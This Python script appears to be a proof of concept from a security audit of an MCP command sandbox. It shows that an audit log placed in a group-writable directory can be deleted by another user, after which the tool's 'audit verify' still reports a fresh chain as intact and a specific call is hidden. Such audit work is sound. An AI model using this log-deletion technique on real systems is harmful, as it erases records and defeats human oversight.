#!/usr/bin/env python3
# atk35 F5: the audit log's file and directories are not judged as the policy and token files are:
# an audit.path in a directory another user can write (here group atkshare, not atkann's private group)
# is accepted; that user deletes the log between calls, serve starts a new chain, `audit verify` says intact.
# Run as root; users atkann, atkeve, both in group atkshare.
import json, subprocess, os, hashlib, shutil
H='/home/atkann'; B='/tmp/atk35/mcpsandbox-pub'; D=H+'/shared'
shutil.rmtree(D, ignore_errors=True); os.makedirs(D+'/ws')
os.chown(D, 1002, 1004); os.chmod(D, 0o2775); os.chown(D+'/ws', 1002, 1002)
os.makedirs(H+'/pol', exist_ok=True); os.chown(H+'/pol',1002,1002); os.chmod(H+'/pol',0o755)
sha = hashlib.sha256(open('/usr/bin/wc','rb').read()).hexdigest()
open(H+'/pol/a.toml','w').write(f'''version = 1
scheme = "allowlist"
[audit]
path = "{D}/audit.jsonl"
[allowlist]
workspace = "{D}/ws"
[[allowlist.commands]]
name = "wc"
path = "/usr/bin/wc"
sha256 = "{sha}"
''')
os.chown(H+'/pol/a.toml',1002,1002); os.chmod(H+'/pol/a.toml',0o600)
RU=['/usr/sbin/runuser','-u','atkann','--']; env={'PATH':'/usr/bin:/bin','HOME':H}
v = subprocess.run(RU+[B,'verify','--policy',H+'/pol/a.toml'], capture_output=True, text=True, env=env)
print('verify --policy: MS405/MS404 named?', 'MS405' in v.stdout+v.stderr, 'MS404' in v.stdout+v.stderr)
p = subprocess.Popen(RU+[B,'serve','--policy',H+'/pol/a.toml'], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, env=env)
def send(o): p.stdin.write((json.dumps(o)+'\n').encode()); p.stdin.flush()
def recv(i):
    for l in p.stdout:
        m = json.loads(l)
        if m.get('id') == i: return m
send({"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"a","version":"1"}}}); recv(1)
send({"jsonrpc":"2.0","method":"notifications/initialized"})
def call(i, args):
    send({"jsonrpc":"2.0","id":i,"method":"tools/call","params":{"name":"run_allowed_command","arguments":{"command":"wc","args":args}}}); return recv(i)
call(2, ['--version']); call(3, ['-c', 'the-call-atkeve-wants-hidden'])
print('log after two calls:', sum(1 for _ in open(D+'/audit.jsonl')), 'lines')
r = subprocess.run(['/usr/sbin/runuser','-u','atkeve','--','rm','-f',D+'/audit.jsonl'], capture_output=True, text=True)
print('atkeve: rm audit.jsonl ->', r.returncode, r.stderr.strip())
call(4, ['--version'])
p.stdin.close(); p.wait(timeout=20)
print('log now:', sum(1 for _ in open(D+'/audit.jsonl')), 'lines; mentions the hidden call:', 'the-call-atkeve-wants-hidden' in open(D+'/audit.jsonl').read())
v = subprocess.run(RU+[B,'audit','verify',D+'/audit.jsonl'], capture_output=True, text=True, env=env)
print('audit verify:', (v.stdout+v.stderr).strip(), 'rc', v.returncode)
